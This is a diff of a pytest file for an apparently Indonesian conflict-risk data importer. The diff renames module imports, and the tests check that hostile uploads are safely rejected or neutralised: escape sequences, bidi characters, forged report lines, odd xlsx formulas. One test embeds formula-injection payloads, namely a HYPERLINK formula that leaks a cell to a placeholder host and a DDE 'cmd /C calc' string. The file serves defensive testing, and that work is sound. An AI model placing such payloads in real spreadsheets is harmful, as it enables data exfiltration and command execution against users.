@@ -24,8 +24,12 @@ import openpyxl
 import pytest
 
 from i18n.catalog import MESSAGES
-from loaders import __main__ as cli, exports, readers, validate
-from loaders.store import open_store
+from loaders import readers
+from cli import main
+from exports import formats
+from domain import validate
+from loaders import uploads
+from storage.backends import open_store
 from tests.test_readers import RISK_COLUMNS, csv_bytes, risk_row
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -461,7 +465,7 @@ def test_hostile_data_file_gets_a_clear_message_and_changes_nothing(name, built,
     started = time.monotonic()
 
     # The reader and the validator: a report, never an exception; Indonesian and English.
-    reports = {lang: validate.check_upload(case.dataset, content, case.file_name, lang)
+    reports = {lang: uploads.check_upload(case.dataset, content, case.file_name, lang)
                for lang in ("id", "en")}
     report = reports["id"]
     assert case.message_id in _codes(report), report.text()
@@ -488,7 +492,7 @@ def test_hostile_data_file_gets_a_clear_message_and_changes_nothing(name, built,
             timeout=SUBPROCESS_TIMEOUT_S, preexec_fn=_limit_memory)
         code, out = result.returncode, result.stdout + result.stderr
     else:
-        code = cli.main(["import", case.dataset, str(path), "--user", "t"])
+        code = main.main(["import", case.dataset, str(path), "--user", "t"])
         captured = capsys.readouterr()
         out = captured.out + captured.err
     assert code == 1, out
@@ -509,12 +513,12 @@ def test_the_suite_has_the_cases_the_brief_asks_for():
 def test_escape_sequences_are_written_visibly(data_dir, tmp_path, capsys):
     path = tmp_path / "esc.csv"
     path.write_bytes(CASES["escape_sequences_in_cells"].build())  # type: ignore[operator]
-    cli.main(["import", "conflict_risk", str(path), "--dry-run"])
+    main.main(["import", "conflict_risk", str(path), "--dry-run"])
     out = capsys.readouterr().out
     assert "Atlantis\\x1b[2J\\x1b[H\\x1b]0;DIRETAS\\x07" in out
     assert "\x1b" not in out and "\x07" not in out
     path.write_bytes(CASES["bidi_override_and_c1_in_cells"].build())  # type: ignore[operator]
-    cli.main(["import", "conflict_risk", str(path), "--dry-run", "--lang", "en"])
+    main.main(["import", "conflict_risk", str(path), "--dry-run", "--lang", "en"])
     out = capsys.readouterr().out
     assert "\\u202eadniramaS\\u202c\\x9b2J" in out
 
@@ -522,7 +526,7 @@ def test_escape_sequences_are_written_visibly(data_dir, tmp_path, capsys):
 def test_a_newline_in_a_cell_cannot_forge_a_report_line(data_dir, tmp_path, capsys):
     path = tmp_path / "baris.csv"
     path.write_bytes(_csv(kab_kota="Atlantis\nOK       semua baik"))
-    cli.main(["import", "conflict_risk", str(path), "--dry-run"])
+    main.main(["import", "conflict_risk", str(path), "--dry-run"])
     out = capsys.readouterr().out
     assert "Atlantis\\nOK" in out
     assert not any(line.startswith("OK       semua baik") for line in out.splitlines())
@@ -530,11 +534,11 @@ def test_a_newline_in_a_cell_cannot_forge_a_report_line(data_dir, tmp_path, caps
 
 def test_formula_without_value_is_not_also_reported_empty():
     content = CASES["xlsx_formula_without_value_required"].build()  # type: ignore[operator]
-    report = validate.check_upload("conflict_risk", content, "rumus.xlsx", "id")
+    report = uploads.check_upload("conflict_risk", content, "rumus.xlsx", "id")
     on_cell = [p for p in report.errors if p.row == 2 and p.column == "skor"]
     assert [p.code for p in on_cell] == ["read.cell.formula_no_value"], report.text()
     assert on_cell[0].value == "=40+2"
-    english = validate.check_upload("conflict_risk", content, "rumus.xlsx", "en")
+    english = uploads.check_upload("conflict_risk", content, "rumus.xlsx", "en")
     assert any("formula without a saved value: open and save the file in Excel" in p.message
                for p in english.errors)
 
@@ -544,7 +548,7 @@ def test_formula_with_its_saved_value_reads_the_value():
     content = raw_xlsx(_header_row() + _risk_row_xml(skor='<c r="{ref}"><f>40+2</f><v>42</v></c>',
                                                      catatan='<c r="{ref}" t="str"><f>""</f>'
                                                              '<v></v></c>'))
-    report = validate.check_upload("conflict_risk", content, "excel.xlsx", "id")
+    report = uploads.check_upload("conflict_risk", content, "excel.xlsx", "id")
     assert report.ok, report.text()
     assert report.frame.loc[0, "skor"] == 42 and report.frame.loc[0, "catatan"] == ""
 
@@ -556,7 +560,7 @@ def test_rich_text_nested_deeply_is_read_as_its_text():
                                                              '<r><t>ca</t></r><t>tat</t></r>'
                                                              '<rPh sb="0" eb="1"><t>x</t></rPh></is></c>'),
                        shared=f'<si>{runs}<rPh sb="0" eb="5"><t>ふりがな</t></rPh></si>')
-    report = validate.check_upload("conflict_risk", content, "kaya.xlsx", "id")
+    report = uploads.check_upload("conflict_risk", content, "kaya.xlsx", "id")
     assert report.ok, report.text()
     assert report.frame.loc[0, "kab_kota"] == "64.08"
     assert report.frame.loc[0, "catatan"] == "catat"
@@ -567,14 +571,14 @@ def test_formula_injection_is_stored_as_text_and_neutralised_on_export(data_dir,
     path = tmp_path / "rumus.csv"
     hyperlink = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
     path.write_bytes(_csv(catatan=hyperlink, sumber="@SUM(1+1)*cmd|' /C calc'!A0"))
-    assert cli.main(["import", "conflict_risk", str(path), "--user", "t"]) == 0
+    assert main.main(["import", "conflict_risk", str(path), "--user", "t"]) == 0
     capsys.readouterr()
     store = open_store()
     assert store.read("conflict_risk").frame["catatan"].tolist() == [hyperlink]
-    exported, _ = exports.export_current("conflict_risk", "csv", "t", store)
+    exported, _ = formats.export_current("conflict_risk", "csv", "t", store)
     text = exported.decode("utf-8-sig")
     assert "'=HYPERLINK" in text and "'@SUM" in text
-    workbook_bytes, _ = exports.export_current("conflict_risk", "xlsx", "t", store)
+    workbook_bytes, _ = formats.export_current("conflict_risk", "xlsx", "t", store)
     sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes)).worksheets[0]
     values = [c.value for row in sheet.iter_rows() for c in row]
     assert not any(isinstance(v, str) and v.startswith(("=", "@")) for v in values)
@@ -655,7 +659,7 @@ def test_shared_strings_are_found_where_the_manifest_says():
             data = source.read(info).replace(b"sharedStrings.xml", b"teks.xml")
             name = info.filename.replace("sharedStrings.xml", "teks.xml")
             target.writestr(name, data)
-    report = validate.check_upload("conflict_risk", out.getvalue(), "teks.xlsx", "id")
+    report = uploads.check_upload("conflict_risk", out.getvalue(), "teks.xlsx", "id")
     assert report.ok, report.text()
     assert report.frame.loc[0, "kab_kota"] == "64.01"
 
@@ -664,10 +668,10 @@ def test_control_characters_in_a_file_name_are_visible_in_every_command(data_dir
                                                                         capsys):
     path = tmp_path / "lapor\x1b]0;judul\x07an.csv"
     path.write_bytes(_csv())
-    assert cli.main(["import", "conflict_risk", str(path), "--user", "t\x1b[31m"]) == 0
+    assert main.main(["import", "conflict_risk", str(path), "--user", "t\x1b[31m"]) == 0
     for argv in (["history", "conflict_risk"], ["import", "conflict_risk", str(path), "--dry-run"],
                  ["import", "conflict_risk", str(tmp_path / "tidak\x1b[2Jada.csv")]):
-        cli.main(argv)
+        main.main(argv)
         captured = capsys.readouterr()
         out = captured.out + captured.err
         assert "\x1b" not in out and "\x07" not in out, argv
@@ -680,7 +684,7 @@ def test_an_unexpected_defect_is_a_refusal_with_a_message_not_a_traceback(monkey
 
     monkeypatch.setattr(readers, "_records_to_frame", broken)
     for lang, text in (("id", "kesalahan tak terduga"), ("en", "unexpected error")):
-        report = validate.check_upload("conflict_risk", _csv(), "x.csv", lang)
+        report = uploads.check_upload("conflict_risk", _csv(), "x.csv", lang)
         assert not report.ok and [p.code for p in report.errors] == ["validate.unexpected"]
         assert text in report.errors[0].message
     assert "a defect nobody foresaw" in caplog.text  # the details go to the server log
@@ -689,7 +693,7 @@ def test_an_unexpected_defect_is_a_refusal_with_a_message_not_a_traceback(monkey
 def test_data_page_table_shortens_long_cell_values():
     from views import data as data_view
 
-    report = validate.check_upload("conflict_risk",
+    report = uploads.check_upload("conflict_risk",
                                    csv_bytes([risk_row(kab_kota="x" * 100_000, kecamatan=str(i))
                                               for i in range(3)]), "x.csv", "id")
     table = data_view.problems_table(report.errors, "id")
@@ -705,7 +709,7 @@ def test_long_cells_get_short_messages_without_fuzzy_matching():
     rows = [risk_row(kab_kota=long + str(i), tingkat_rawan=long + str(i), kecamatan=str(i))
             for i in range(5)]
     content = csv_bytes(rows).replace(b"sumber", (long + "x").encode(), 1)
-    report = validate.check_upload("conflict_risk", content, "x.csv", "id")
+    report = uploads.check_upload("conflict_risk", content, "x.csv", "id")
     assert {"validate.district", "validate.choice_unknown", "validate.missing_column"} <= set(
         _codes(report))
     assert max(len(p.message) for p in report.problems) < 2_000
